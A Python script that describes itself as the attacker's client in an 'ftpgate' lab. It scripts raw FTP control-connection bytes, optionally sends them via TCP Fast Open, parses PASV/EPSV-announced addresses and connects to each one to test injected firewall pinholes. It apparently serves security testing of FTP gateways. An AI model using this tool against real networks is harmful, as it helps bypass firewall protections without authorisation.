#!/usr/bin/env python3
"""A scripted raw FTP control connection: the attacker's client in the ftpgate lab.

    ftp-raw.py --connect HOST:PORT [--timeout 10] [--connect-announced] [--fastopen] STEP...

Each STEP is one of
    send:TEXT     write TEXT (Python escapes: \\r \\n \\xff ...) in one send() call
    reply:CODE    wait for one more final reply line "CODE ..." (up to --timeout seconds)
    sleep:SECS    wait
    drain:SECS    read whatever comes for SECS seconds
and the script goes on after a reply that does not come (it says so). With --fastopen the
first step must be a send: its bytes go in the SYN (TCP Fast Open, MSG_FASTOPEN; the
namespace's net.ipv4.tcp_fastopen decides whether they really do). A connection the peer
closes or resets ends the script early. Everything sent and received is printed ("> ..." and
"< ...", as Python literals), then "closed: HOW" when the peer closed.

With --connect-announced, every address the replies announced afterwards, "(h1,h2,h3,h4,p1,p2)"
(227) or "(|||port|)" (229, on the control connection's host), is connected to once, and the
script sends "injected\\n" there; one line says how each went: "announced ADDR:PORT connected"
or "announced ADDR:PORT failed: ERROR". An attacker uses it to try the pinholes that text in
the replies may have opened.

Exit status: 0, or 2 when the control connection could not be made.
"""

import argparse
import re
import socket
import sys
import time

PASV_RE = re.compile(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)")
EPSV_RE = re.compile(rb"\(\|\|\|(\d+)\|\)")


def unescape(text):
    return text.encode("latin-1").decode("unicode_escape").encode("latin-1")


class Control:
    def __init__(self, sock, timeout):
        self.sock = sock
        self.timeout = timeout
        self.received = b""
        self.consumed = {}
        self.closed = None

    def read_for(self, secs):
        """Reads until SECS pass or the peer closes."""
        deadline = time.monotonic() + secs
        while self.closed is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError as err:
                self.closed = "error: %s" % err
                return
            if not chunk:
                self.closed = "eof"
                return
            print("< %r" % chunk, flush=True)
            self.received += chunk

    def final_lines(self, code):
        lines = self.received.split(b"\r\n")
        return sum(1 for line in lines if line.startswith(code.encode() + b" "))

    def wait_reply(self, code):
        want = self.consumed.get(code, 0) + 1
        deadline = time.monotonic() + self.timeout
        while self.final_lines(code) < want and self.closed is None:
            left = deadline - time.monotonic()
            if left <= 0:
                print("no %s reply within %gs" % (code, self.timeout), flush=True)
                return
            self.read_for(min(left, 0.2))
        if self.final_lines(code) >= want:
            self.consumed[code] = want
        else:
            print("no %s reply before the connection ended" % code, flush=True)

    def send(self, data):
        print("> %r" % data, flush=True)
        try:
            self.sock.sendall(data)
        except OSError as err:
            self.closed = "error: %s" % err


def announced(received, control_host):
    """Every (address, port) the replies announced, in order, without repeats."""
    seen = []
    for match in PASV_RE.finditer(received):
        nums = [int(n) for n in match.groups()]
        target = ("%d.%d.%d.%d" % tuple(nums[:4]), nums[4] * 256 + nums[5])
        if target not in seen:
            seen.append(target)
    for match in EPSV_RE.finditer(received):
        target = (control_host, int(match.group(1)))
        if target not in seen:
            seen.append(target)
    return seen


def try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"injected\n")
        return "connected"
    except OSError as err:
        return "failed: %s" % err


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--connect", required=True, help="HOST:PORT")
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--connect-announced", action="store_true")
    parser.add_argument("--fastopen", action="store_true")
    parser.add_argument("steps", nargs="*")
    args = parser.parse_args(argv)
    host, _, port = args.connect.rpartition(":")
    steps = list(args.steps)
    try:
        if args.fastopen:
            if not steps or not steps[0].startswith("send:"):
                parser.error("--fastopen needs a send: step first")
            sock = socket.socket()
            sock.settimeout(args.timeout)
            first = unescape(steps.pop(0)[len("send:") :])
            print("> %r (in the SYN)" % first, flush=True)
            sock.sendto(first, socket.MSG_FASTOPEN, (host, int(port)))
        else:
            sock = socket.create_connection((host, int(port)), timeout=args.timeout)
    except OSError as err:
        print("cannot connect to %s: %s" % (args.connect, err), file=sys.stderr)
        return 2
    control = Control(sock, args.timeout)
    for step in steps:
        kind, _, value = step.partition(":")
        if control.closed is not None:
            break
        if kind == "send":
            control.send(unescape(value))
        elif kind == "reply":
            control.wait_reply(value)
        elif kind == "sleep":
            time.sleep(float(value))
        elif kind == "drain":
            control.read_for(float(value))
        else:
            parser.error("unknown step %r" % step)
    if control.closed is not None:
        print("closed: %s" % control.closed, flush=True)
    if args.connect_announced:
        for addr, port in announced(control.received, host):
            print("announced %s:%d %s" % (addr, port, try_connect(addr, port)), flush=True)
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
